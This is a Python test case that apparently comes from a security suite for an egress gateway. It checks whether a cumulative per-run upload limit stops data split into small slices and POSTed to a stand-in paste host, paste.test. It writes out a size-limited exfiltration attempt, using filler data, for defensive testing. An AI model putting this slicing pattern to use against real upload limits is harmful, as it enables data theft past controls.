"""Many uploads that are each small enough.

Slices below every limit of a single request, until the whole is out. The run has a limit of its own
over all of them; the slice that goes beyond it does not arrive whole, and nothing
afterwards does.

Not covered: several runs one after the other.
"""

ATTACK = {
    "title": "More uploaded than the run may",
    "group": "permitted",
    "layer": "gateway",
    "risk": "exfiltration",
    "references": ["ATT&CK T1030", "CWE-770"],
    "arrives": [{"what": "request", "name": "paste.test", "path": "/upload?slice-9"}],
    "stopped": [{"reason": ["upload-limit"], "where": {"name": "paste.test"}}],
    "rules": "  - {allow: paste.test, ports: [80]}\n",
    "policy": "limits: {upload: 64KiB}\n",
    "reachable": ["paste.test"],
    "uses_up": True,
}


def attempt(kit):
    for number in range(10):
        kit.talk("paste.test", 80, kit.get(f"/upload?slice-{number}", "paste.test", "POST", body="x" * 10000))
